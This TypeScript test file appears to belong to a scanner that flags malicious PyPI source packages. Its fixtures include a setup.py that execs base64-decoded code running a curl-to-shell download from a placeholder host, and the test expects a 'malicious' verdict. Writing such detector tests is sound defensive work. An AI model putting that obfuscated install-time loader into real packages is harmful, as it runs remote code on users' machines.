import assert from "node:assert/strict";
import { describe, test } from "node:test";
import { DEFAULT_LIMITS } from "../limits.ts";
import type { Detector } from "./detector.ts";
import { ENGINE } from "./engine.ts";
import { inspect, inspectTree } from "./inspect.ts";
import { withLayers } from "./layers.ts";
import { runDetectors } from "./run-detectors.ts";
import { PREFILTER } from "./searched.ts";
import { treeOfFiles } from "./unpack.ts";

function sdist(files: Record<string, string>) {
  const entries = Object.entries(files).map(([path, text]) => [`demo-1.0/${path}`, Buffer.from(text)] as const);
  const tree = treeOfFiles(entries, { filename: "demo-1.0.tar.gz", ecosystem: "pypi", form: "sdist" }, PREFILTER);
  return withLayers(tree, PREFILTER, DEFAULT_LIMITS.lexedBytes);
}

const silent: Detector = {
  id: "silent",
  title: "Sees nothing",
  severity: "info",
  ecosystems: ["pypi"],
  points: 1,
  class: "capability",
  group: "none",
  why: "",
  detect: () => [],
  examples: { matches: [], passes: [] },
};

describe("inspect", () => {
  test("gives unknown with the reason for what is no archive and for what is larger than the limit", () => {
    const noise = inspect({ bytes: Buffer.from("not an archive"), filename: "a.tar.gz" });
    assert.equal(noise.verdict.word, "unknown");
    assert.match(noise.verdict.because ?? "", /refused/);
    const large = inspect({ bytes: Buffer.alloc(100), filename: "a.whl" }, { ...DEFAULT_LIMITS, artifactBytes: 99 });
    assert.match(large.verdict.because ?? "", /larger than the limit/);
    assert.equal(large.engine, ENGINE);
    assert.match(ENGINE, /^\d+\+[0-9a-f]{8}$/);
  });

  test("finds what is only visible after decoding, and says how deep it lay", () => {
    const inner = Buffer.from("import os\nos.system('curl http://example.invalid/x | sh')\n").toString("base64");
    const { findings, verdict } = inspectTree(
      sdist({ "setup.py": `import base64\nexec(base64.b64decode('${inner}'))\n` }),
      DEFAULT_LIMITS,
    );
    assert.equal(verdict.word, "malicious");
    assert.ok(findings.some(({ detector, layer }) => detector === "downloads-and-runs" && layer === 1));
  });

  test("keeps addresses of code and decoded layers for later comparison with block lists", () => {
    const inner = Buffer.from("u = 'http://hidden.example.invalid/a'  # and more text\n").toString("base64");
    const { facts } = inspectTree(
      sdist({ "setup.py": `import base64\nu = 'https://plain.example.invalid'\nexec(base64.b64decode('${inner}'))\n` }),
      DEFAULT_LIMITS,
    );
    assert.deepEqual(facts?.urls, ["http://hidden.example.invalid/a", "https://plain.example.invalid"]);
    assert.equal(facts?.files, 1);
  });

  test("says the same about the same bytes each time", () => {
    const files = { "setup.py": "import os\nos.system('calc')\n", "demo/__init__.py": "import socket\n" };
    assert.deepEqual(inspectTree(sdist(files), DEFAULT_LIMITS), inspectTree(sdist(files), DEFAULT_LIMITS));
  });
});

describe("the runner of detectors", () => {
  const tree = sdist({ "setup.py": "x = 1\n" });
  const sees = (count: number, says = "seen"): Detector => ({
    ...silent,
    id: "seeing",
    *detect() {
      for (let at = 0; at < count; at++) yield { path: "demo-1.0/setup.py", line: at + 1, says };
    },
  });

  test("keeps the findings of others when a detector throws", () => {
    const broken: Detector = {
      ...silent,
      id: "broken",
      detect() {
        throw new Error("boom\u0007");
      },
    };
    const { evidence, failures } = runDetectors(tree, [broken, sees(2)], DEFAULT_LIMITS);
    assert.equal(evidence.length, 2);
    assert.deepEqual(failures, ["broken: boom\\u{7}"]);
  });

  test("stops a detector that never ends at its bound, and all of them at theirs", () => {
    const limits = { findings: 30, findingsPerDetector: 20 };
    assert.equal(runDetectors(tree, [sees(Number.POSITIVE_INFINITY)], limits).evidence.length, 20);
    assert.equal(runDetectors(tree, [sees(1e9), { ...sees(1e9), id: "again" }], limits).evidence.length, 30);
  });

  test("shortens what is said and escapes what a terminal would obey", () => {
    const { evidence } = runDetectors(tree, [sees(1, `\u001b[31m${"x".repeat(1_000)}\u202e`)], DEFAULT_LIMITS);
    const says = evidence[0]?.finding.says ?? "";
    assert.ok(says.length <= 300);
    assert.match(says, /^\\u\{1b\}\[31mx/);
  });

  test("passes a detector whose literals occur nowhere", () => {
    const idle: Detector = { ...sees(1), literals: ["subprocess"] };
    assert.deepEqual(runDetectors(tree, [idle], DEFAULT_LIMITS).evidence, []);
  });
});
